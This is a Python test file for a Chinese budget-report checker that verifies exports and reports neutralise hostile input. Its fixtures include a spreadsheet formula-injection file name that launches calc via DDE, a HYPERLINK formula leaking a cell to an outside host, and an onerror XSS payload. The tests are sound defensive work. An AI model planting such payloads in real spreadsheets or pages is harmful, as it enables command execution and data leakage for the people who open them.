"""Untrusted text stays text: document text and file names never become formulas, Markdown
structure or hidden input; a scan never leaves its folder; odd names and broken databases
end in a clear message, not a traceback."""

from __future__ import annotations

import csv
import os
import sqlite3
import subprocess
import sys
import time
import unicodedata
from pathlib import Path

import openpyxl
import pytest

from checker.batch import store
from checker.batch.scan import discover
from checker.batch.tables import export_csv
from checker.batch.workbook import export_xlsx
from checker.batch.worker import analyse
from checker.engine import check_text
from checker.ingest import load_document
from checker.ingest.invisible import FORMAT_CHARS
from checker.report.markdown import render_markdown
from tests.test_bad_input import jiaohe

REPO_ROOT = Path(__file__).resolve().parents[1]
DEMO = REPO_ROOT / "corpus" / "demo" / "qingchuan-juesuan-2024-with-defects.txt"

_HOSTILE = (
    '=HYPERLINK("http://example.invalid/?"&A1,"点此")单位2024年度部门决算说明\n'
    "一、收入支出决算总体情况\n"
    "本年收入合计 100.00 万元，其中财政拨款收入 80.00 万元，其他收入 30.00 万元。\n"
    "主要原因是：+SUM(1,2)-@cmd。\n"
)


def _database(tmp_path: Path, name: str = "=cmd|' -C calc'!A0.txt") -> Path:
    source = tmp_path / name
    source.write_text(_HOSTILE, encoding="utf-8")
    db = tmp_path / "f.sqlite"
    conn = store.connect(db)
    store.save_result(conn, "test", analyse(str(source)))
    store.save_failure(conn, "test", "0" * 64, str(tmp_path / "=2+3.docx"), "input", "=bad reason")
    conn.close()
    return db


def test_xlsx_export_writes_no_formula(tmp_path):
    db = _database(tmp_path)
    out = tmp_path / "out.xlsx"
    with sqlite3.connect(db) as conn:
        export_xlsx(conn, out)
    workbook = openpyxl.load_workbook(out)
    cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert any(t.startswith("=") for t in texts), "the hostile text reaches the workbook as text"
    assert not [c.coordinate for c in cells if c.data_type == "f"]


def test_csv_export_quotes_formula_starts(tmp_path):
    db = _database(tmp_path)
    with sqlite3.connect(db) as conn:
        paths = export_csv(conn, tmp_path / "csv")
    values = [v for p in paths for row in csv.reader(p.open(encoding="utf-8-sig")) for v in row]
    assert any(v.startswith("'=") for v in values)
    assert not [v for v in values if v[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [v for v in values if v.startswith("-") and not v.lstrip("-").replace(".", "").isdigit()]


def test_markdown_escapes_the_file_name_and_excerpts():
    report = check_text(_HOSTILE, path="a`b\n# 注入标题 <img src=x onerror=alert(1)>.txt")
    md = render_markdown(report)
    assert "\n# 注入标题" not in md
    assert "<img" not in md.replace("\\<img", "")
    assert "a\\`b" in md


# ------------------------------------------------------------------ invisible characters


def test_the_format_character_class_is_unicode_cf():
    cf = {chr(c) for c in range(sys.maxunicode + 1) if unicodedata.category(chr(c)) == "Cf"}
    matched = {chr(c) for c in range(sys.maxunicode + 1) if FORMAT_CHARS.match(chr(c))}
    # the class follows Unicode 15; an older unicodedata does not know the newest ones yet
    assert cf <= matched
    assert all(unicodedata.category(ch) == "Cn" for ch in matched - cf)
    # strip_format_chars searches only the texts str.isprintable flags
    assert not any(ch.isprintable() for ch in matched)


def _errors(report) -> list[tuple[str, str]]:
    return sorted((f.rule, f.stated or "") for f in report.findings if f.severity == "error")


def test_zero_width_spaces_neither_hide_nor_invent_errors(tmp_path):
    """U+200B between every character made the demo report's five errors disappear; inside
    numbers it produced bogus SUM001 errors."""
    text = DEMO.read_text(encoding="utf-8")
    hidden = "\n".join("\u200b".join(line) for line in text.split("\n"))
    path = tmp_path / "hidden.txt"
    path.write_text(hidden, encoding="utf-8")
    plain, masked = check_text(text), check_text(hidden)
    assert _errors(masked) == _errors(plain) and len(_errors(plain)) >= 5
    [notice] = [f for f in masked.findings if f.rule == "STR010"]
    assert notice.severity == "warning" and notice.stated == str(hidden.count("\u200b"))
    assert not [f for f in plain.findings if f.rule == "STR010"]


def test_removing_format_characters_keeps_the_source_map_exact(tmp_path):
    lines = ["一\u200b、收入支出决算总体情况", "本年收入合计1\u200b20.50万元，比上年增\u2060加10.50万元，增长9.55%。"]
    path = tmp_path / "map.txt"
    path.write_text("\n".join(lines), encoding="utf-8")
    document = load_document(path)
    assert document.blocks[0].heading is not None
    for block in document.paragraphs():
        assert not FORMAT_CHARS.search(block.text)
        for piece in block.pieces:
            source = lines[piece.line - 1]
            assert source[piece.column : piece.column + piece.end - piece.start] == block.raw[piece.start : piece.end]
    assert "120.50" in document.blocks[1].text


# ------------------------------------------------------------------ scan stays in its folder


def test_scan_skips_links_out_of_its_folder_and_survives_link_loops(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("口令", encoding="utf-8")
    root = tmp_path / "archive"
    (root / "sub").mkdir(parents=True)
    (root / "a.txt").write_text("报告", encoding="utf-8")
    (root / "leak.txt").symlink_to(secret)
    (root / "sub" / "loop").symlink_to(root)
    (root / "sub" / "again").symlink_to(root / "sub")
    (root / "inside.txt").symlink_to(root / "a.txt")
    for targets in ([str(root)], [f"{root}/**/*.txt"], [f"{root}/**"]):
        outside: list[tuple[str, str]] = []
        started = time.perf_counter()
        found = discover(targets, outside)
        assert time.perf_counter() - started < 5
        assert [p.name for p in found] == ["a.txt"], targets  # inside.txt is the same file
        assert [Path(p).name for p, _ in outside] == ["leak.txt"]
        assert "之外的" in outside[0][1] and "未读取" in outside[0][1]


# ------------------------------------------------------------------ names and databases


def _gbk_file(folder: Path) -> Path:
    name = os.fsdecode("测试报告".encode("gbk") + b".txt")
    path = folder / name
    path.write_text(_HOSTILE, encoding="utf-8")
    return path


def test_a_gbk_file_name_is_stored(tmp_path):
    path = _gbk_file(tmp_path)
    conn = store.connect(tmp_path / "f.sqlite")
    store.save_result(conn, "test", analyse(str(path)))
    broken = path.with_suffix(".docx")  # another file: a failure at the same path would replace the document
    store.save_failure(conn, "test", "1" * 64, str(broken), "input", f"{broken}: broken")
    [stored] = [r[0] for r in conn.execute("SELECT path FROM documents")]
    assert stored.endswith("测试报告.txt")
    [failed] = [r[0] for r in conn.execute("SELECT path FROM failures")]
    assert failed.endswith("测试报告.docx")


def test_check_output_with_a_gbk_file_name(tmp_path):
    path = _gbk_file(tmp_path)
    for fmt in ("html", "md", "text"):
        out = tmp_path / f"out.{fmt}"
        result = subprocess.run(
            [sys.executable, "-m", "checker", "check", os.fsencode(path), "-f", fmt, "-o", out, "--fail-on", "none"],
            cwd=REPO_ROOT,
            capture_output=True,
            timeout=120,
        )
        assert result.returncode == 0, result.stderr.decode(errors="replace")
        assert out.stat().st_size > 0


@pytest.fixture()
def corrupt_db(tmp_path) -> Path:
    db = _database(tmp_path)
    data = bytearray(db.read_bytes())
    for at in range(4096, len(data), 4096):  # every page but the header: the schema still opens
        data[at + 8 : at + 600] = b"\xa5" * 592
    db.write_bytes(bytes(data))
    for suffix in ("-wal", "-shm"):
        Path(str(db) + suffix).unlink(missing_ok=True)
    return db


@pytest.mark.parametrize("command", [["report"], ["export", "--xlsx", "OUT.xlsx"], ["export", "--csv", "OUT"]])
def test_a_corrupt_database_is_an_input_error(corrupt_db, command):
    command = [str(corrupt_db.parent / c) if c.startswith("OUT") else c for c in command]
    result = jiaohe(*command, "--db", corrupt_db)
    assert result.returncode == 2, result.stdout + result.stderr
    assert "Traceback" not in result.stderr and "问题数据库" in result.stderr


def test_same_named_inputs_get_distinct_outputs(tmp_path):
    for folder in ("a", "b"):
        (tmp_path / folder).mkdir()
        (tmp_path / folder / "x.txt").write_text(
            _HOSTILE.replace("80.00", "70.00" if folder == "a" else "80.00"), encoding="utf-8"
        )
    out = tmp_path / "out"
    out.mkdir()
    result = jiaohe(
        "check", tmp_path / "a" / "x.txt", tmp_path / "b" / "x.txt", "-f", "html", "-o", out, "--fail-on", "none"
    )
    assert result.returncode == 0, result.stderr
    assert sorted(p.name for p in out.iterdir()) == ["x-2.html", "x.html"]
    assert (out / "x.html").read_text(encoding="utf-8") != (out / "x-2.html").read_text(encoding="utf-8")


def test_the_database_keeps_absolute_paths(tmp_path):
    (tmp_path / "docs").mkdir()
    (tmp_path / "docs" / "r.txt").write_text(_HOSTILE, encoding="utf-8")
    result = subprocess.run(
        [sys.executable, "-m", "checker", "scan", "docs", "--db", "f.sqlite", "--jobs", "1"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=300,
        env={**os.environ, "PYTHONPATH": str(REPO_ROOT)},
    )
    assert result.returncode == 0, result.stderr
    with sqlite3.connect(tmp_path / "f.sqlite") as conn:
        [path] = [r[0] for r in conn.execute("SELECT path FROM documents")]
    assert path == str(tmp_path / "docs" / "r.txt")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    exported = subprocess.run(
        [sys.executable, "-m", "checker", "export", "--db", tmp_path / "f.sqlite", "--html", "html"],
        cwd=elsewhere,
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "PYTHONPATH": str(REPO_ROOT)},
    )
    assert exported.returncode == 0 and "写出 1 个文件" in exported.stdout, exported.stderr
